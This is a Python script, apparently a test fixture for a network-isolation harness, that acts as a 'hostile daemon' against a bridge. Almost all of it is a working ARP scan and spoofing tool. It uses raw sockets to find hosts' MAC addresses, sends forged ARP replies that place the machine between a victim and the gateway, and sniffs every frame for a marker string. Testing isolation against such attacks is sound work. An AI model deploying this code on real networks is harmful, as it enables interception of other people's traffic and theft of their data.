"""A hostile daemon's ARP scan and spoof of the herder bridge (python3 raw sockets).

Reads /minion/plan.json: {"scan": [ip, ...], "victim": ip, "gateway": ip,
"marker": str, "seconds": s}. It asks every scanned address for its MAC,
then for `seconds` tells the gateway that the victim's address is its own
and the victim that the gateway's is, while it reads every frame on its
interface for `marker`. Prints `SPOOFING` when the spoof starts and
`NOTHING` when it cannot, and `ATTACK-DONE <json>` at the end: {"error", "found": {ip: mac}, "captured"}.
"""

import json
import socket
import struct
import time

ETH_P_ALL = 0x0003
ETH_P_ARP = 0x0806
BROADCAST = b"\xff" * 6


def mac_bytes(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def arp_frame(op: int, src_mac: bytes, src_ip: str, dst_mac: bytes, dst_ip: str) -> bytes:
    eth = (BROADCAST if op == 1 else dst_mac) + src_mac + struct.pack("!H", ETH_P_ARP)
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, op)
    arp += src_mac + socket.inet_aton(src_ip) + (b"\0" * 6 if op == 1 else dst_mac)
    arp += socket.inet_aton(dst_ip)
    return eth + arp


def arp_reply_from(frame: bytes) -> tuple[str, str] | None:
    if len(frame) < 42 or frame[12:14] != struct.pack("!H", ETH_P_ARP):
        return None
    if struct.unpack("!H", frame[20:22])[0] != 2:
        return None
    return socket.inet_ntoa(frame[28:32]), frame[22:28].hex(":")


def main() -> None:
    with open("/minion/plan.json") as f:
        plan = json.load(f)
    result: dict = {"error": None, "found": {}, "captured": False}
    try:
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        sock.bind(("eth0", 0))
    except OSError as exc:
        result["error"] = f"{type(exc).__name__}: {exc}"
        print("NOTHING", flush=True)
        print("ATTACK-DONE " + json.dumps(result), flush=True)
        return
    my_mac = mac_bytes(open("/sys/class/net/eth0/address").read().strip())
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((plan["gateway"], 9))
    my_ip = probe.getsockname()[0]
    sock.settimeout(0.05)
    marker = plan["marker"].encode()

    def read_for(seconds: float) -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            try:
                frame = sock.recv(65535)
            except TimeoutError:
                continue
            reply = arp_reply_from(frame)
            if reply and reply[0] in plan["scan"] and reply[1] != my_mac.hex(":"):
                result["found"][reply[0]] = reply[1]
            if marker in frame:
                result["captured"] = True

    for _ in range(3):
        for ip in plan["scan"]:
            sock.send(arp_frame(1, my_mac, my_ip, BROADCAST, ip))
        read_for(0.5)
    gateway_mac = result["found"].get(plan["gateway"])
    victim_mac = result["found"].get(plan["victim"])
    print("SPOOFING", flush=True)
    end = time.monotonic() + plan["seconds"]
    while time.monotonic() < end:
        if gateway_mac:
            sock.send(arp_frame(2, my_mac, plan["victim"], mac_bytes(gateway_mac), plan["gateway"]))
        if victim_mac:
            sock.send(arp_frame(2, my_mac, plan["gateway"], mac_bytes(victim_mac), plan["victim"]))
        read_for(0.2)
    print("ATTACK-DONE " + json.dumps(result), flush=True)


main()
time.sleep(3600)
